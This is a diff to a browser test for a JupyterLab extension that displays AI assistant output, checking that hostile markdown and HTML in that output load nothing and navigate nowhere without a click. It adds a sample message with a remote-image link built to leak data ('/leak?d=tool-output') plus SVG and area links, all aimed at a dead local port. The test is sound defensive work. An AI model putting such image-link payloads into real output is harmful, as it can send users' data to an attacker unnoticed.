@@ -24,6 +24,13 @@ from ..support.jupyterlab import JupyterLab, assert_links_inert, launch_page, op
 assert len(PAYLOADS) >= 30
 
 
+# a remote image, an SVG link and an area, alone in a message (in the corpus's message, an earlier
+# payload's unclosed HTML block holds them as text)
+ALONE = ("look: ![chart](http://127.0.0.1:9/leak?d=tool-output)\n\n"
+         '<svg><a href="http://127.0.0.1:9/navigate"><text y="20">svg link</text></a></svg>\n\n'
+         '<map name="m"><area shape="default" href="http://127.0.0.1:9/navigate"></map>')
+
+
 def _cells() -> list[str]:
     calls = "\n".join(f"/call get_weather {json.dumps({'city': p})}" for p in PAYLOADS)
     errors = "\n".join(f"/call broken {json.dumps({'city': p})}" for p in PAYLOADS[:8])
@@ -40,6 +47,7 @@ def _cells() -> list[str]:
         "cite = oai_create_thread_and_run(assistant, thread={'messages': ['/cite ' + PAYLOADS[1]]}, stream=True)\ncite",
         f"tools = oai_create_thread_and_run(assistant, thread={{'messages': [{calls!r}]}}, stream=True)\ntools",
         f"errors = oai_create_thread_and_run(assistant, thread={{'messages': [{errors!r}]}}, stream=True)\nerrors",
+        f"image = oai_create_thread_and_run(assistant, thread={{'messages': [{ALONE!r}]}}, stream=True)\nimage",
     ]
 
 
@@ -69,10 +77,21 @@ def test_hostile_output_runs_nothing_live_and_from_a_saved_notebook(lab):
     name = lab.add("hostile.ipynb", nbformat.writes(make_notebook(*_cells())))
     with sync_playwright() as playwright:
         context, page = launch_page(playwright)
+        leaks = []  # the corpus's remote loads and links all point at 127.0.0.1:9
+        page.on("request", lambda request: leaks.append(request.url) if ":9/" in request.url else None)
         open_notebook(page, lab, name)
+        notebook_url = page.url
         run_all_cells(page)
-        wait_for_badges(page, "completed", 4, timeout=120_000)
+        wait_for_badges(page, "completed", 5, timeout=120_000)
         screenshot(page, "hostile-live")
+        assert leaks == [], "a remote resource loaded without a click"
+        for link in page.locator(".jp-OutputArea-output .oairun-body a").all()[:10]:
+            link.click(modifiers=[], timeout=5000)  # a new tab at most: the notebook's tab stays
+        assert page.url == notebook_url
+        placeholder = page.locator(".jp-OutputArea-output .oairun-image-load:not([disabled])").first
+        placeholder.click()  # the user asks for the image: now, and only now, it is requested
+        page.wait_for_timeout(500)
+        assert any("/leak?d=tool-output" in url for url in leaks), leaks
         cards = page.locator(".jp-OutputArea-output .oairun-tool")
         assert cards.count() >= len(PAYLOADS) + 8
         shown = page.locator(".jp-OutputArea-output .oairun-tool .oairun-tool-args").all_text_contents()
@@ -85,7 +104,7 @@ def test_hostile_output_runs_nothing_live_and_from_a_saved_notebook(lab):
     with sync_playwright() as playwright:
         context, page = launch_page(playwright)
         open_notebook(page, lab, name)
-        wait_for_badges(page, "completed", 4, timeout=120_000)
+        wait_for_badges(page, "completed", 5, timeout=120_000)
         screenshot(page, "hostile-saved")
         _assert_nothing_ran(page)
         context.close()
